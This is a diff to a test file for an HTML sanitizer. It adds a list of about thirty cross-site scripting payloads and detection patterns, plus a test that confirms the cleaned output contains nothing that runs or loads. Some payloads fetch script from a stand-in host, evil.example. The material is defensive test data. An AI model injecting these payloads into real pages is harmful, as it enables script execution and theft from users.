@@ -1,11 +1,62 @@
 import { describe, expect, it } from '@jest/globals';
 import fc from 'fast-check';
+import { Parser } from 'htmlparser2';
 import { anyText } from '#testing';
 import { cleanHtml } from './text.js';
 
 /** Anything that could run, load or be submitted, in what a browser would read. */
 const DANGEROUS =
   /<\s*\/?\s*(?:script|style|iframe|object|embed|form|input|button|svg|math|img|video|audio|link|meta|base|template|noscript|textarea|xmp|frameset|body|html)\b|<[^>]*\son\w+\s*=|<[^>]*(?:href|src|style|srcdoc|formaction|xlink:href)\s*=\s*["']?\s*(?:javascript|data|vbscript)/i;
+
+const SCHEME = /^[\s\u0000-\u0020]*(?:javascript|data|vbscript|file):/i;
+const RUNS = [
+  'script',
+  'style',
+  'iframe',
+  'object',
+  'embed',
+  'form',
+  'input',
+  'svg',
+  'math',
+  'base',
+  'meta',
+  'link',
+  'template',
+];
+
+/** Known ways to run a script in HTML that somebody else wrote. */
+const VECTORS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<img/src="x"/onerror=alert(1)//>',
+  '<img src=`x`onerror=alert(1)>',
+  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
+  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
+  '<a href="&#14; javascript:alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<style>@import "//evil.example";</style>',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<object data="data:text/html,x"></object>',
+  '<embed src="//evil.example/x.swf">',
+  '<base href="javascript:alert(1)//">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<form><button formaction="javascript:alert(1)">x</button></form>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+];
 
 describe('cleanHtml', () => {
   it.each([
@@ -178,6 +229,26 @@ describe('cleanHtml', () => {
     ])('takes what could run out of %j', (html, clean) => {
       expect(withPictures(html)).toBe(clean);
       expect(withPictures(clean)).toBe(clean);
+    });
+
+    it.each(VECTORS)('is parsed again without anything that runs or loads: %j', (html) => {
+      for (const images of [false, true]) {
+        const clean = cleanHtml(html, { images });
+        expect(cleanHtml(clean, { images })).toBe(clean);
+        const tags: string[] = [];
+        const handlers: string[] = [];
+        const parser = new Parser({
+          onopentag(name, attributes) {
+            tags.push(name);
+            for (const [key, value] of Object.entries(attributes))
+              if (/^on|^style$|^srcdoc$/.test(key) || (/^(?:href|src)$/.test(key) && SCHEME.test(value)))
+                handlers.push(key);
+          },
+        });
+        parser.end(clean);
+        expect(handlers).toEqual([]);
+        expect(tags.filter((name) => RUNS.includes(name) || (!images && name === 'img'))).toEqual([]);
+      }
     });
   });
 });
